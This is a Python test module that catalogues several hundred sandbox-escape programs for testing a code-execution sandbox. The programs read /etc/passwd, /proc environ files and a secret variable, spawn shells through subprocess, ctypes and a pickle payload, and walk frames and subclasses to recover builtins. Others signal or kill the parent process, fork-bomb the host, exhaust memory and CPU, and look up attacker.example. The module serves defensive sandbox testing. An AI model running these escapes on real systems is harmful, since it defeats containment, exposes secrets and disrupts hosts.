"""
Attacks on a sandbox: programs that try to read, write, send, signal, multiply, or take more than they may.

Each is a template over a `Target`: what it could reach if nothing held it. The 26 of the first survey come first; the
others are variations of published escapes (RestrictedPython, n8n, smolagents, Pyodide) and of what an operating system
offers.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from textwrap import dedent
from typing import NamedTuple

__all__ = ["ATTACKS", "SURVEY", "Attack", "Target"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """
    What attacks aim at: a file that holds a secret, a folder to write to, ports of listeners, process ids.

    `secret` stands in the file and in the environment variable `SECRET` of the process `self`, which runs the sandbox;
    `parent` is another one that may be killed.
    """

    secret: str
    file: str
    folder: str
    port: int
    udp_port: int
    socket: str
    parent: int
    self: int


class Attack(NamedTuple):
    """A program that does harm where nothing holds it; `family` groups attacks of one way."""

    family: str
    program: str

    def against(self, target: Target) -> str:
        """The program with the places of the target in it."""
        text = self.program
        for name in ("secret", "file", "folder", "port", "udp_port", "socket", "parent", "self"):
            text = text.replace(f"<{name}>", str(getattr(target, name)))
        return text


SURVEY = tuple(
    Attack(family, dedent(program).strip())
    for family, program in (
        ("time", "while True:\n    pass"),
        ("memory", "x = bytearray(3 * 2**30)\nresult = len(x)"),
        ("memory", "x = []\nwhile True:\n    x.append('x' * 1000000)"),
        ("time", "x = 9 ** 10 ** 7\nresult = x % 10"),
        ("time", "x = 10 ** 10 ** 9\nresult = 1"),
        ("memory", "x = 'x' * (8 * 2**30)\nresult = len(x)"),
        ("depth", "def f(n):\n    return f(n + 1)\nf(0)"),
        ("depth", "result = eval('(' * 3000 + ')' * 3000)"),
        ("time", "import re\nresult = bool(re.match('(a+)+$', 'a' * 40 + 'b'))"),
        ("output", "while True:\n    print('x' * 10000)"),
        ("processes", "import os\nfor i in range(40):\n    os.fork()"),
        ("files", "result = open('<file>').read()"),
        ("files", "result = open('/etc/passwd').read()"),
        ("proc", "result = open('/proc/self/environ').read()"),
        ("environment", "import os\nresult = dict(os.environ)"),
        ("network", "import socket\ns = socket.create_connection(('127.0.0.1', <port>), 1)\ns.sendall(b'hello')"),
        ("signals", "import os\nos.kill(<parent>, 12)"),
        ("processes", "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo > <folder>/made'])"),
        ("ctypes", "import ctypes\nctypes.CDLL(None).system(b'echo > <folder>/made')"),
        (
            "builtins",
            """
            for kind in ().__class__.__base__.__subclasses__():
                if kind.__name__ == 'Popen':
                    kind(['sh', '-c', 'echo > <folder>/made'])
                if kind.__name__ == '_wrap_close':
                    kind.__init__.__globals__['system']('echo > <folder>/made')
            """,
        ),
        ("files", "open('<folder>/made', 'wb').write(b'x' * 67108864)"),
        ("text", "print('\\x00\\u202e\\ud800')\nresult = '\\x00\\u202e'"),
        ("text", "result = '\\ud800'\nprint(result)"),
        ("frames", "result = '{0.__class__.__init__.__globals__}'.format(values)"),
        ("exit", "import sys\nsys.exit(3)"),
        ("threads", "import threading\nfor i in range(50):\n    threading.Thread(target=lambda: [0] * 10**6).start()"),
    )
)
"""The 26 attacks by which sandboxes were compared."""

WAYS_TO_IMPORT = (
    "import {0} as m",
    "m = __import__('{0}')",
    "import importlib\nm = importlib.import_module('{0}')",
    "m = __builtins__['__import__']('{0}') if isinstance(__builtins__, dict) else __builtins__.__import__('{0}')",
    "import sys\nm = sys.modules['{0}']",
    "exec('import {0} as m', globals())",
    "import builtins\nm = getattr(builtins, '__imp' + 'ort__')('{0}')",
    "m = [k for k in object.__subclasses__() if k.__name__ == 'BuiltinImporter'][0].load_module('{0}')",
)
READS = (
    "result = open('{0}').read()",
    "import io\nresult = io.open('{0}').read()",
    "import os\nresult = os.read(os.open('{0}', 0), 4096).decode()",
    "import pathlib\nresult = pathlib.Path('{0}').read_text()",
    "import linecache\nresult = linecache.getlines('{0}')",
    "import tokenize\nresult = tokenize.open('{0}').read()",
    "import fileinput\nresult = list(fileinput.input('{0}'))",
    "import codecs\nresult = codecs.open('{0}').read()",
    "import mmap, os\nresult = mmap.mmap(os.open('{0}', 0), 0, prot=1)[:].decode()",
    "import numpy\nresult = numpy.fromfile('{0}', dtype='u1').tobytes().decode()",
    "import numpy\nresult = str(numpy.memmap('{0}', dtype='u1', mode='r')[:].tobytes())",
    "import runpy\nresult = str(runpy.run_path('{0}'))",
    "import ctypes\nc = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(4096)\nc.read(c.open(b'{0}', 0), b, 4096)\n"
    "result = b.value.decode()",
    "import sqlite3\nresult = sqlite3.connect('file:{0}?mode=ro', uri=True).execute('select 1').fetchall()",
)
WRITES = (
    "open('<folder>/made', 'w').write('x')",
    "import os\nos.mkdir('<folder>/made')",
    "import os\nos.symlink('/etc/passwd', '<folder>/made')",
    "import os\nos.link('<file>', '<folder>/made')",
    "import os\nos.rename('<file>', '<folder>/made')",
    "import os\nos.unlink('<file>')",
    "import os\nos.truncate('<file>', 0)",
    "import os\nos.chmod('<file>', 0o777)\nopen('<folder>/made', 'w')",
    "import os\nos.mkfifo('<folder>/made')",
    "import os\nos.mknod('<folder>/made')",
    "import os\nos.utime('<file>', (0, 0))\nos.mkdir('<folder>/made')",
    "import shutil\nshutil.copy('<file>', '<folder>/made')",
    "import tempfile\ntempfile.NamedTemporaryFile(dir='<folder>', delete=False)",
    "import sqlite3\nsqlite3.connect('<folder>/made').execute('create table t (x)')",
    "import numpy\nnumpy.save('<folder>/made', numpy.zeros(3))",
    "import logging\nlogging.basicConfig(filename='<folder>/made')\nlogging.error('x')",
    "import os\nos.open('<folder>/../' + '<folder>'.rsplit('/', 1)[1] + '/made', os.O_CREAT | os.O_WRONLY)",
    "import os\nos.chdir('<folder>')\nopen('made', 'w').close()",
    "import os\nos.close(os.open('<folder>', os.O_TMPFILE | os.O_RDWR))\nopen('<folder>/made', 'w').close()",
    "import ctypes\nctypes.CDLL(None).creat(b'<folder>/made', 0o666)",
    "import ctypes\nctypes.CDLL(None).syscall(85, b'<folder>/made', 0o666)",
    "import ctypes\nctypes.CDLL(None).syscall(83, b'<folder>/made', 0o777)",
)
SENDS = (
    "import socket\nsocket.create_connection(('127.0.0.1', <port>), 1).sendall(b'x')",
    "import socket\nsocket.create_connection(('::1', <port>), 1).sendall(b'x')",
    "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', <udp_port>))",
    "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('<socket>')\ns.sendall(b'x')",
    "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0research-agent-test-<self>')\ns.sendall(b'x')",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ns.sendto(b'x', ('127.0.0.1', 0))",
    "import socket\nsocket.getaddrinfo('attacker.example', 80)\nresult = '<secret>' * 0",
    "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:<port>/', timeout=1).read()",
    "import http.client\nc = http.client.HTTPConnection('127.0.0.1', <port>, timeout=1)\nc.request('GET', '/')",
    "import ftplib\nftplib.FTP().connect('127.0.0.1', <port>, 1)",
    "import smtplib\nsmtplib.SMTP('127.0.0.1', <port>, timeout=1)",
    "import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', <port>))",
    "import socketserver\nsocketserver.TCPServer(('127.0.0.1', 0), None)\nresult = 'bound' * 0",
    "import socket\na, b = socket.socketpair()\na.sendall(b'x')",
    "import ctypes, struct\nc = ctypes.CDLL(None)\nf = c.socket(2, 1, 0)\n"
    "a = struct.pack('<H', 2) + struct.pack('>H', <port>) + bytes([127, 0, 0, 1]) + bytes(8)\n"
    "c.connect(f, a, 16)\nc.send(f, b'x', 1, 0)",
    "import ctypes, struct\nc = ctypes.CDLL(None)\nf = c.syscall(41, 2, 1, 0)\n"
    "a = struct.pack('<H', 2) + struct.pack('>H', <port>) + bytes([127, 0, 0, 1]) + bytes(8)\n"
    "c.syscall(42, f, a, 16)\nc.syscall(44, f, b'x', 1, 0, 0, 0)",
)
STARTS = (
    "import subprocess\nsubprocess.run(['sh', '-c', 'echo > <folder>/made'])",
    "import os\nos.system('echo > <folder>/made')",
    "import os\nos.popen('echo > <folder>/made').read()",
    "import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'echo > <folder>/made'], {})",
    "import pty\npty.spawn(['sh', '-c', 'echo > <folder>/made'])",
    "import multiprocessing\nmultiprocessing.Process(target=print).start()",
    "import concurrent.futures as f\nwith f.ProcessPoolExecutor() as p:\n    p.submit(print).result()",
    "import os\nwhile True:\n    os.fork()",
    "import os\nif os.fork() == 0:\n    os.setsid()\n    while True:\n        pass",
    "import ctypes\nctypes.CDLL(None).fork()\nwhile True:\n    pass",
    "import ctypes\nctypes.CDLL(None).syscall(57)\nwhile True:\n    pass",
    "import ctypes\nctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0)\nwhile True:\n    pass",
    "import ctypes\nctypes.CDLL(None).system(b'echo > <folder>/made')",
    "import ctypes\nctypes.CDLL(None).execl(b'/bin/sh', b'sh', b'-c', b'echo > <folder>/made', None)",
    "import _posixsubprocess, os\n_posixsubprocess.fork_exec([b'/bin/true'], [b'/bin/true'], True, (), None, None, -1, "
    "-1, -1, -1, -1, -1, *os.pipe(), False, False, -1, None, None, None, -1, None, False)",
    "import webbrowser\nwebbrowser.open('http://127.0.0.1:<port>/')",
)
SIGNALS = (
    "import os\nos.kill(<parent>, 9)",
    "import os\nos.kill(<parent>, 15)",
    "import os\nos.killpg(os.getpgid(<parent>), 12)",
    "import os\nos.kill(os.getppid(), 12)",
    "import os\nos.kill(-1, 12)",
    "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(<parent>), 12)",
    "import ctypes\nctypes.CDLL(None).kill(<parent>, 12)",
    "import ctypes\nctypes.CDLL(None).syscall(62, <parent>, 12)",
    "import ctypes\nctypes.CDLL(None).syscall(234, <parent>, <parent>, 12)",
    "import ctypes\nctypes.CDLL(None).ptrace(16, <parent>, 0, 0)",
    "import resource\nresource.prlimit(<parent>, resource.RLIMIT_CPU, (1, 1))",
    "import os\nos.setpriority(os.PRIO_PROCESS, <parent>, 19)",
)
PROC = (
    "/proc/self/environ", "/proc/<parent>/environ", "/proc/<parent>/cmdline", "/proc/self/maps", "/proc/<parent>/mem",
    "/proc/self/mountinfo", "/proc/net/tcp", "/proc/1/environ", "/proc/self/root<file>", "/proc/self/cwd/../<file>",
    "/sys/class/net/lo/address", "/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/shm/x",
)  # fmt: skip
FRAMES = (
    "import sys\nf = sys._getframe()\nwhile f:\n    print(list(f.f_globals), f.f_locals)\n    f = f.f_back",
    "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    f = e.__traceback__.tb_frame\n    while f:\n        "
    "print(f.f_globals.get('SECRET'), f.f_builtins['open']('<file>').read())\n        f = f.f_back",
    "def g():\n    yield g.gi_frame.f_back.f_globals\ng = g()\nprint(list(g))",
    "import gc\nfor o in gc.get_objects():\n    if isinstance(o, dict) and 'SECRET' in o:\n        print(o['SECRET'])",
    "import inspect\nfor r in inspect.stack():\n    print(r.frame.f_locals)",
    "async def c():\n    pass\nprint(c().cr_frame.f_globals)",
    "print('{0.__class__.__mro__}'.format(''))\nprint('{a.__globals__[SECRET]}'.format(a=print))",
    "print(f'{().__class__.__bases__[0].__subclasses__()}')",
    "class A:\n    def __getattr__(self, n):\n        return open('<file>').read()\nprint(A().x)",
    "print(type.__getattribute__(type, '__subclasses__')(object))\nprint(open('<file>').read())",
    "import types\nf = types.FunctionType(compile(\"open('<file>').read()\", 'x', 'eval'), {})\nprint(f())",
    "import types\ntypes.CodeType(0, 0, 0, 0, 1000, 67, b'\\x64\\xff' * 100, (), (), (), 'x', 'x', 'x', 1, b'', b'')",
    "import sys\nsys.settrace(lambda *a: print(a[0].f_globals))\n(lambda: 1)()\nprint(open('<file>').read())",
    "import sys\nsys.addaudithook(lambda *a: None)\nprint(open('<file>').read())",
    "import atexit, os\natexit.register(os.system, 'echo > <folder>/made')",
    "class D:\n    def __del__(self):\n        open('<folder>/made', 'w')\nd = D()\ndel d",
    "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'echo > <folder>/made'\\ntR.\")",
    "import marshal, types\nexec(marshal.loads(marshal.dumps(compile(\"open('<folder>/made','w')\", 'x', 'exec'))))",
    "import ctypes\nctypes.string_at(0)",
    "import ctypes\nctypes.memset(id(print), 255, 100000)",
    "import os\nfor n in range(64):\n    try:\n        print(os.read(n, 4096) if n > 2 else '')\n    "
    "except OSError:\n        pass",
    "import os\nfor n in range(64):\n    try:\n        os.write(n, b'<secret>x')\n    except OSError:\n        pass\n"
    "open('<folder>/made', 'w')",
    "import os\nprint(os.listdir('/'), os.listdir('<folder>/..'), open('<file>').read())",
    "import os\nprint(os.getcwd(), os.environ.get('SECRET'), os.environ.get('HOME'))",
)
HOGS = (
    "x = [0] * 10**9",
    "x = bytearray(10**9)",
    "x = {i: str(i) * 100 for i in range(10**8)}",
    "x = 'a'\nwhile True:\n    x += x",
    "x = b'a' * 10**6\ny = []\nwhile True:\n    y.append(x + b'b')",
    "x = list(range(10**9))",
    "x = set()\nfor i in range(10**9):\n    x.add((i, str(i)))",
    "import numpy\nx = numpy.ones((10**6, 10**4))",
    "import numpy\nx = [numpy.ones(10**7) for i in range(1000)]",
    "x = 1 << (1 << 40)",
    "x = '%1000000000d' % 1",
    "x = '{:1000000000}'.format(1)",
    "import itertools\nx = list(itertools.product(range(1000), repeat=4))",
    "import re\nx = re.compile('(' * 500 + 'a{1000}' + '){1000}' * 3)",
    "import decimal\ndecimal.getcontext().prec = 10**8\nx = decimal.Decimal(2) ** 10**7",
    "import math\nx = math.factorial(10**7)",
    "def f():\n    f()\n    f()\nf()",
    "x = []\nx.append(x)\nresult = x",
    "x = {}\nx['a'] = x\nresult = x",
    "x = []\nfor i in range(10**5):\n    x = [x]\nresult = x",
    "result = 'x' * 10**7",
    "result = list(range(10**6))",
    "result = 10 ** 5000",
    "result = float('nan')",
    "result = float('inf')",
    "result = print",
    "result = object()",
    "result = {1: {2: {3: {(4, 5): 6}}}}",
    "import time\ntime.sleep(100)",
    "import threading\nthreading.Event().wait()",
    "import select\nselect.select([], [], [])",
    "import signal\nsignal.signal(signal.SIGTERM, lambda *a: None)\nsignal.signal(signal.SIGALRM, lambda *a: None)\n"
    "while True:\n    pass",
    "try:\n    while True:\n        pass\nexcept BaseException:\n    while True:\n        pass",
    "while True:\n    try:\n        x = [0] * 10**9\n    except MemoryError:\n        pass",
    "x = sorted(range(10**7), key=lambda i: -i)\nx = sorted(x * 10)",
    "any(i == -1 for i in iter(int, 1))",
    "sum(1 for i in range(10**12))",
    "'a' * 10**7 in 'a' * (10**7 - 1) * 100",
    "int('9' * 4000) ** 10**6",
    "import random\nwhile True:\n    random.random()",
    "print('x' * 10**9)",
    "while True:\n    print(end='x')",
    "while True:\n    print()",
    "import sys\nwhile True:\n    sys.stdout.write('x' * 10**6)",
    "import sys\nwhile True:\n    sys.stderr.write('x' * 10**6)",
    "import os\nwhile True:\n    os.write(1, b'x' * 10**6)",
    "raise SystemExit",
    "raise KeyboardInterrupt",
    "raise BaseException('x' * 10**7)",
    "import os\nos._exit(0)",
    "import os\nos.abort()",
    "import faulthandler\nfaulthandler._sigsegv()",
)  # fmt: skip


def _variations() -> Iterator[Attack]:
    for way, name in product(WAYS_TO_IMPORT, ("os", "posix")):
        yield Attack("imports", f"{way.format(name)}\nm.system('echo > <folder>/made')")
    for way in READS:
        for place in ("<file>", "/etc/passwd"):
            yield Attack("files", way.format(place))
    for group, family in ((WRITES, "files"), (SENDS, "network"), (STARTS, "processes"), (SIGNALS, "signals")):
        yield from (Attack(family, program) for program in group)
    for place in PROC:
        yield Attack("proc", f"result = open('{place}', 'rb').read(4096).decode('latin-1')")
    yield from (Attack("frames", program) for program in FRAMES)
    yield from (Attack("limits", program) for program in HOGS)


ATTACKS = (*SURVEY, *_variations())
"""All attacks: those of the survey, then the variations."""
